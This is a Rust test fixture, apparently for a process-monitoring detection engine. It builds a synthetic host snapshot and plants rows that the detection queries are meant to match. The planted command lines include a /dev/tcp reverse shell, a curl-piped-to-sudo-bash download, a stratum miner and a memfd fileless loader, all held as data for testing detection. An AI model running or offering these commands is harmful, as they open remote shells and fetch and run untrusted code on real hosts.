//! A made-up host in the layout of `processes`, the same in every run: a snapshot, and one half a minute later in which
//! 2 % of the processes are others.
//!
//! Processes form a tree of eight children each. The inner ones are supervisors; the leaves are services, shells and
//! scripts with command lines of about 150 bytes; a few are threads of the kernel. Into the leaves goes what the
//! queries look for (`PLANTS`, `LINEAGES`), so that the right count of each answer is known beforehand.

use std::collections::HashSet;

use arrow_array::RecordBatch;
use daemoneye_dsl::tables::Process;
use daemoneye_dsl::types::{MICROS_PER_SEC, Timestamp};

/// Processes in the first snapshot.
pub const PROCESSES: usize = 10_000;
/// Those that have children.
const INNER: usize = PROCESSES / 8;
/// When the first snapshot was taken.
pub const FIRST: Timestamp = Timestamp(1_790_000_000 * MICROS_PER_SEC);
/// When the second was.
pub const SECOND: Timestamp = Timestamp(FIRST.0 + 30 * MICROS_PER_SEC);
/// Planted for each query in the first snapshot.
pub const PLANTED: usize = 3;
/// Of those gone in the second, and come to match since.
const GONE: usize = 1;
const COME: usize = 2;
/// Planted for each query in the second.
pub const PLANTED_SECOND: usize = PLANTED - GONE + COME;
/// Children of the one process that has unusually many.
pub const CROWD: usize = 300;
/// The query that finds them.
pub const CROWDED: &str = "having";
/// The rule that finds [`BURSTS`].
pub const BURST: &str = "discovery_burst";
/// Parents that ran five tools and more, in the first snapshot and in the second.
pub const BURSTS: (usize, usize) = (1, 2);

/// A process that one query finds: the query, name, path and command line.
const PLANTS: &[(&str, &str, &str, &str)] = &[
    ("hidden_executable", "helper", "/srv/www/.cache-x/.helper", "./.helper --listen 127.0.0.1:9001"),
    ("deleted_executable", "builder", "/home/dev/target/builder", "target/builder --watch src --out dist"),
    ("kernel_thread_masquerade", "watcher", "/usr/local/bin/watcher", "[kworker/0:1-events]"),
    ("fileless_execution", "3", "/memfd:payload", "loader --stage 2"),
    (
        "cryptocurrency_miner",
        "updater",
        "/usr/local/bin/updater",
        "updater -o stratum+tcp://pool.example:3333 -u wallet",
    ),
    ("reverse_shell", "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
    ("download_piped_to_shell", "sh", "/usr/bin/dash", "sh -c curl -fsSL https://get.example/install | sudo bash"),
    ("executable_in_temp", "setup", "/tmp/unpack-81/setup", "/tmp/unpack-81/setup --silent"),
    ("equality", "odd-agent", "/usr/local/bin/odd-agent", "odd-agent --foreground"),
    ("like", "sync", "/usr/local/bin/sync", "sync --from /srv/data --Exfil-To backup.example --all"),
    ("glob", "vendor", "/opt/unusual/bin/vendor", "vendor serve --port 8099"),
    ("regexp", "client", "/usr/local/bin/client", "client --token=0f3c5e7a9b1d2f4c6e8a0b2d4f6c8e0a push"),
];

/// A process that one query finds by its forebears, nearest last, none of which is met elsewhere.
const LINEAGES: &[(&str, &[&str], &str)] = &[
    ("server_spawned_shell", &["apache2"], "sh"),
    ("tool_below_document_reader", &["soffice.bin", "wrapper"], "wget"),
    ("parent_join", &["odd-parent"], "odd-child"),
    ("ancestors", &["odd-root", "wrapper", "wrapper"], "python3"),
];

/// Inner processes, and leaves: some of them shells and interpreters, as on any host.
const SUPERVISORS: &[&str] = &["systemd", "containerd-shim", "supervisord", "runsvdir", "agetty"];
const SERVICES: &[&str] = &[
    "nginx",
    "postgres",
    "redis-server",
    "java",
    "node",
    "python3",
    "bash",
    "sshd",
    "cron",
    "rsyslogd",
    "dbus-daemon",
    "worker",
    "gunicorn",
    "haproxy",
    "etcd",
    "kubelet",
    "envoy",
    "php-fpm",
    "memcached",
    "chronyd",
];
const TOOLS: &[&str] = &["whoami", "id", "uname", "hostname", "ss", "netstat"];

/// Both snapshots and what lies between them.
#[derive(Debug)]
pub struct Host {
    /// The first snapshot.
    pub first: Vec<Process>,
    /// The second.
    pub second: Vec<Process>,
    /// In the second only.
    pub started: Vec<Process>,
    /// In both, with their first and their second version.
    pub changed: Vec<(Process, Process)>,
    /// In the first only.
    pub exited: Vec<Process>,
}

impl Host {
    /// The one host.
    pub fn made_up() -> Self {
        let mut first: Vec<_> = (0..PROCESSES).map(process).collect();
        let mut next = PROCESSES;
        // Leaves, spread over the table; what was planted is not planted over.
        let mut leaves = (INNER + 1..PROCESSES).step_by(17);
        let mut exits = Vec::new();
        let mut started = Vec::new();
        for (_, name, path, command) in PLANTS {
            let plant = |process: &mut Process| dress(process, name, path, command);
            plant_some(&mut first, &mut leaves, &mut next, &mut exits, &mut started, plant);
        }
        for (_, forebears, name) in LINEAGES {
            let mut parent = None;
            for forebear in *forebears {
                let place = leaves.next().expect("a leaf");
                dress(&mut first[place], forebear, &format!("/usr/sbin/{forebear}"), &format!("{forebear} --serve"));
                first[place].parent_id = parent.or(first[place].parent_id.take());
                parent = Some(first[place].proc_id.clone());
            }
            let plant = |process: &mut Process| {
                dress(process, name, &format!("/usr/bin/{name}"), &format!("{name} --input /srv/data/in"));
                process.parent_id.clone_from(&parent);
            };
            plant_some(&mut first, &mut leaves, &mut next, &mut exits, &mut started, plant);
        }
        let crowded = &mut first[leaves.next().expect("a leaf")];
        dress(crowded, "odd-crowd", "/usr/sbin/odd-crowd", "odd-crowd --spawn");
        let crowded = crowded.proc_id.clone();
        for _ in 0..CROWD {
            first[leaves.next().expect("a leaf")].parent_id = Some(crowded.clone());
        }
        // They run for a moment, so these are the newest.
        let newest = PROCESSES - TOOLS.len() + 1;
        let start_time = Some(Timestamp(FIRST.0 - 60 * MICROS_PER_SEC));
        let places = (newest..PROCESSES).map(|number| Process { start_time, ..process(number) });
        first.truncate(newest);
        first.extend(places.zip(&TOOLS[1..]).map(|(process, tool)| discovering(process, tool, &id(1))));
        started.extend(TOOLS.iter().map(|tool| discovering(fresh(&mut next), tool, &id(2))));

        let share = PROCESSES / 150;
        let rest: Vec<_> = leaves.by_ref().take(share - exits.len() + share).collect();
        let (more_exits, changes) = rest.split_at(share - exits.len());
        exits.extend(more_exits);
        started.extend((started.len()..share).map(|_| fresh(&mut next)));
        Self::between(first, &exits, changes, started)
    }

    fn between(first: Vec<Process>, exits: &[usize], changes: &[usize], mut started: Vec<Process>) -> Self {
        let mut second = first.clone();
        for place in changes {
            let process = &mut second[*place];
            process.cwd = Some("/srv/moved".to_owned());
            process.session_id = Some(process.pid);
        }
        for place in &mut second {
            sample(place, SECOND);
        }
        for process in &mut started {
            sample(process, SECOND);
        }
        let changed = changes.iter().map(|place| (first[*place].clone(), second[*place].clone())).collect();
        let exited: Vec<_> = exits.iter().map(|place| first[*place].clone()).collect();
        let gone: HashSet<_> = exited.iter().map(|process| &process.proc_id).collect();
        second.retain(|process| !gone.contains(&process.proc_id));
        second.extend(started.iter().cloned());
        Self { first, second, started, changed, exited }
    }
}

/// How many rows a query that something was planted for gives, in the first snapshot and in the second.
pub fn planted(query: &str) -> Option<(usize, usize)> {
    let names = PLANTS.iter().map(|plant| plant.0).chain(LINEAGES.iter().map(|lineage| lineage.0));
    match query {
        BURST => Some(BURSTS),
        CROWDED => Some((1, 1)),
        _ => names.into_iter().any(|name| name == query).then_some((PLANTED, PLANTED_SECOND)),
    }
}

/// Plants the processes of one query: some in the first snapshot, of which some go, and some that come.
fn plant_some(
    first: &mut [Process],
    leaves: &mut impl Iterator<Item = usize>,
    next: &mut usize,
    exits: &mut Vec<usize>,
    started: &mut Vec<Process>,
    plant: impl Fn(&mut Process),
) {
    let places: Vec<_> = leaves.by_ref().take(PLANTED).collect();
    for place in &places {
        plant(&mut first[*place]);
    }
    exits.extend(&places[..GONE]);
    started.extend((0..COME).map(|_| {
        let mut process = fresh(next);
        plant(&mut process);
        process
    }));
}

fn dress(process: &mut Process, name: &str, path: &str, command: &str) {
    name.clone_into(&mut process.name);
    process.kernel_thread = false;
    process.file_exists = Some(!path.starts_with("/home/dev/target") && !path.starts_with("/memfd:"));
    process.on_disk_mismatch = process.file_exists.map(|exists| !exists);
    process.executable_path = Some(path.to_owned());
    process.command_line = Some(command.to_owned());
    process.argv = Some(argv(command));
}

/// One of the tools that a person who looks around runs.
fn discovering(mut process: Process, tool: &str, parent: &str) -> Process {
    dress(&mut process, tool, &format!("/usr/bin/{tool}"), tool);
    Process { parent_id: Some(parent.to_owned()), user_name: Some("user0".to_owned()), ..process }
}

/// A process that starts between the snapshots.
fn fresh(next: &mut usize) -> Process {
    *next += 1;
    Process { start_time: Some(Timestamp(FIRST.0 + 15 * MICROS_PER_SEC)), ..process(*next - 1) }
}

/// The process of that number as a collector would see it; also one of any number of rows to store.
pub fn process(number: usize) -> Process {
    let n = i64::try_from(number).expect("a small number");
    let noise = scatter(number as u64);
    let pick = |names: &[&'static str]| names[usize::try_from(noise >> 32).expect("32 bits") % names.len()];
    let name = pick(if number < INNER { SUPERVISORS } else { SERVICES });
    let mut process = Process {
        proc_id: id(number),
        parent_id: (number > 0).then(|| id(number / 8 % INNER)),
        pid: n % 4_194_304 + 1,
        ppid: Some(n / 8 % 4_194_304 + 1),
        name: name.to_owned(),
        cwd: Some(format!("/var/lib/{name}")),
        user_id: Some(1_000 + n % 7),
        user_name: Some(format!("user{}", n % 7)),
        group_id: Some(1_000 + n % 7),
        session_id: Some(n / 8 + 1),
        start_time: Some(Timestamp(FIRST.0 - (50_000 - n).max(1) * 30 * MICROS_PER_SEC)),
        status: Some("sleeping".to_owned()),
        threads: Some(1 + n % 16),
        accessible: true,
        ..Process::default()
    };
    if number.is_multiple_of(64) && number > 0 {
        process.name = format!("kworker/{}:{}", n % 8, n % 4);
        process.kernel_thread = true;
    } else {
        let path = format!("/usr/lib/{name}-{}/bin/{name}", noise % 5);
        let command = format!(
            "{path} --config /etc/{name}/instance-{number}.conf --listen 10.{}.{}.{}:{} --data /var/lib/{name}/{noise:016x} \
             --log-level warn --workers {}",
            noise % 250,
            noise / 256 % 250,
            noise / 65_536 % 250,
            8_000 + n % 1_000,
            n % 32
        );
        process.environment_vars = Some(environment(name, noise));
        process.container_id = (n % 3 == 0).then(|| format!("{:016x}{noise:016x}", scatter(noise % 40)));
        dress(&mut process, name, &path, &command);
    }
    sample(&mut process, FIRST);
    process
}

/// Processes in the layout of `dsl::tables::version_columns`.
pub fn versions(processes: &[Process]) -> RecordBatch {
    let columns = Process::columns();
    let kept: Vec<_> = (0..columns.len()).filter(|at| !columns[*at].volatile).collect();
    Process::batch(processes).project(&kept).expect("columns of the batch")
}

/// The columns that differ in each snapshot.
fn sample(process: &mut Process, time: Timestamp) {
    let noise = scatter(process.pid.unsigned_abs() ^ time.0.unsigned_abs());
    process.cpu_usage = Some(f64::from(u32::try_from(noise % 1_000).expect("small")) / 100.0);
    process.memory_usage = Some(i64::try_from(noise % (512 << 20)).expect("small"));
    process.collection_time = time;
}

fn id(number: usize) -> String {
    format!("{:016x}", scatter(number as u64))
}

/// Ids are hashes, spread over the whole range, no two alike.
fn scatter(number: u64) -> u64 {
    let mixed = (number ^ (number >> 30)).wrapping_add(1).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb)
}

fn argv(command: &str) -> String {
    let quoted: Vec<_> = command.split(' ').map(|part| format!("\"{part}\"")).collect();
    format!("[{}]", quoted.join(","))
}

fn environment(name: &str, noise: u64) -> String {
    format!(
        "{{\"PATH\":\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\",\"LANG\":\"C.UTF-8\",\
         \"HOME\":\"/var/lib/{name}\",\"USER\":\"{name}\",\"INVOCATION_ID\":\"{noise:032x}\",\
         \"STATE_DIRECTORY\":\"/var/lib/{name}\"}}"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn two_percent_change_and_nothing_is_there_twice() {
        let host = Host::made_up();
        assert_eq!(host.first.len(), 10_000);
        assert_eq!(host.exited.len() + host.started.len() + host.changed.len(), 198);
        for snapshot in [&host.first, &host.second] {
            let ids: HashSet<_> = snapshot.iter().map(|process| &process.proc_id).collect();
            assert_eq!(ids.len(), snapshot.len());
        }
        let lengths = host.first.iter().filter_map(|process| process.command_line.as_ref().map(String::len));
        let total: usize = lengths.sum();
        assert!((130..170).contains(&(total / 10_000)), "{} bytes a command line", total / 10_000);
    }
}
